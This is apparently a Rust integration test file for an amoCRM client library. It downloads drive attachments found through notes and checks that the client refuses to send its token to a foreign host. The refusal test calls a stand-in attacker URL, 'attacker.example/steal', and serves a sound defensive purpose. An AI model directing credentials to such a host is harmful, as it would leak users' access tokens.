//! Files: drive attachments found through notes, their description and download, and
//! refusal to send the token to a foreign host.

use futures::TryStreamExt;
use migrator_amocrm::models::common::EntityKind as Kind;
use migrator_amocrm::models::notes::NoteKind;
use migrator_amocrm::{AmoError, ListQuery};

use crate::helpers::{collect, fast_config, long_lived, sandbox};

#[tokio::test]
async fn a_drive_attachment_is_described_and_downloaded() {
    let sandbox = sandbox(3_000).await;
    let client = long_lived(&sandbox, fast_config());
    let drive = client
        .account()
        .await
        .expect("account")
        .drive_url
        .expect("drive url");
    let notes = collect(client.notes(Kind::Leads, ListQuery::new())).await;
    let uuid = notes
        .iter()
        .find_map(|note| match &note.kind {
            NoteKind::Attachment(params) => params.file_uuid.clone(),
            _ => None,
        })
        .expect("the account has a drive attachment");

    let file = client
        .drive_file(&drive, &uuid)
        .await
        .expect("call")
        .expect("file");
    let link = file.download_url().expect("a download link").to_owned();
    let download = client.download(&link).await.expect("download starts");
    let chunks: Vec<Vec<u8>> = download.chunks.try_collect().await.expect("download ends");

    let size: usize = chunks.iter().map(Vec::len).sum();
    assert!(size > 0);
    if let Some(expected) = file.size {
        assert_eq!(size as i64, expected);
    }
}

#[tokio::test]
async fn the_token_is_never_sent_to_a_foreign_host() {
    let sandbox = sandbox(200).await;
    let client = long_lived(&sandbox, fast_config());

    let err = client
        .download("https://attacker.example/steal")
        .await
        .expect_err("refused");

    assert!(matches!(err, AmoError::InvalidAddress { .. }), "{err:?}");
    assert!(sandbox.control().calls().is_empty());
}
